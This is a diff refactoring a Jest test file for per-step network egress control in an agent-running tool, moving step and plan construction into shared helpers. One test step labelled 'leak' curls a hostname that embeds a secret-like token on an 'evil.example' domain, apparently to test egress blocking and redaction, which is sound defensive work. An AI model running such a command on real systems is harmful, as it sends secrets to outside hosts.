@@ -6,7 +6,7 @@ import { describe, expect, it } from '@jest/globals'
 import { mkdtempSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
-import type { AgentPlan, RunPlan, Step } from '../../../src/config/types.js'
+import type { RunPlan, RunStep, Step } from '../../../src/config/types.js'
 import { Redactor } from '../../../src/report/redact.js'
 import { Run } from '../../../src/run/orchestrate.js'
 import {
@@ -16,6 +16,7 @@ import {
   type EgressConfig
 } from '../../../src/runtime/egress/index.js'
 import type { AgentSession, ExecRequest, Runtime } from '../../../src/runtime/types.js'
+import { agentPlan, runPlan, runStep } from '../../helpers/plan.js'
 
 type Begun = { index: number; name?: string; egress: boolean }
 
@@ -61,38 +62,24 @@ function runtime(config: EgressConfig | undefined, begun: Begun[]): Runtime {
   }
 }
 
-function runStep(index: number, command: string, extra: Partial<Step> = {}): Step {
-  return {
-    kind: 'run',
-    index,
-    run: command,
-    timeoutSec: 5,
-    env: {},
-    expectExit: 0,
-    allowFailure: false,
-    background: false,
-    ...extra
-  } as Step
-}
-
 function plan(steps: Step[], egress?: EgressConfig): RunPlan {
-  const agent: AgentPlan = {
-    id: 'a',
+  const agent = agentPlan({
     mode: 'docker',
     workspace: tmpdir(),
-    contextPaths: [],
-    policy: { enableSudo: false, allowed: [], blocked: [] },
     maxOutputBytes: 1024,
     steps,
     ...(egress ? { egress } : {})
-  }
-  return {
+  })
+  return runPlan([agent], {
     configFile: '/c.yaml',
     workingDirectory: tmpdir(),
-    agents: [agent],
     defaults: { timeoutSec: 60, maxOutputBytes: 1024 }
-  }
+  })
 }
+
+/** A run step with a 5 s timeout at `index`. */
+const step = (index: number, command: string, extra: Partial<RunStep> = {}): Step =>
+  runStep(command, { index, timeoutSec: 5, ...extra })
 
 async function execute(p: RunPlan, egress: EgressConfig | undefined, redactor?: Redactor) {
   const begun: Begun[] = []
@@ -115,11 +102,11 @@ describe('per-step egress in the run', () => {
     const { begun } = await execute(
       plan(
         [
-          runStep(0, 'curl pypi.org', { name: 'deps' }),
+          step(0, 'curl pypi.org', { name: 'deps' }),
           { kind: 'write_file', index: 1, path: join(tmpdir(), 'x'), content: '' },
-          runStep(2, 'pytest', { name: 'tests', egress: false } as Partial<Step>),
-          runStep(3, 'false'),
-          runStep(4, 'never')
+          step(2, 'pytest', { name: 'tests', egress: false }),
+          step(3, 'false'),
+          step(4, 'never')
         ],
         egress
       ),
@@ -134,7 +121,7 @@ describe('per-step egress in the run', () => {
   })
 
   it('an agent without command_line_egress begins its steps with egress off', async () => {
-    const { begun, res } = await execute(plan([runStep(0, 'true')]), undefined)
+    const { begun, res } = await execute(plan([step(0, 'true')]), undefined)
     expect(begun).toEqual([{ index: 0, name: undefined, egress: false }])
     expect(res.agents[0].egress).toBeUndefined()
     expect(res.agents[0].commands[0].egress).toBeUndefined()
@@ -146,9 +133,9 @@ describe('per-step egress in the run', () => {
     const { res, lines } = await execute(
       plan(
         [
-          runStep(0, 'curl pypi.org', { name: 'deps' }),
-          runStep(1, 'curl s3cr3t-token-value.evil.example', { name: 'leak' }),
-          runStep(2, 'curl pypi.org', { name: 'offline', egress: false } as Partial<Step>)
+          step(0, 'curl pypi.org', { name: 'deps' }),
+          step(1, 'curl s3cr3t-token-value.evil.example', { name: 'leak' }),
+          step(2, 'curl pypi.org', { name: 'offline', egress: false })
         ],
         egress
       ),
@@ -178,7 +165,7 @@ describe('per-step egress in the run', () => {
   it('audit mode: the proposal is logged at the agent’s end', async () => {
     const audit = { ...emptyEgressConfig(), audit: true }
     const { res, lines } = await execute(
-      plan([runStep(0, 'curl pypi.org'), runStep(1, 'curl files.example')], audit),
+      plan([step(0, 'curl pypi.org'), step(1, 'curl files.example')], audit),
       audit
     )
     expect(res.agents[0].egress?.proposedAllowedDomains).toEqual(['files.example', 'pypi.org'])
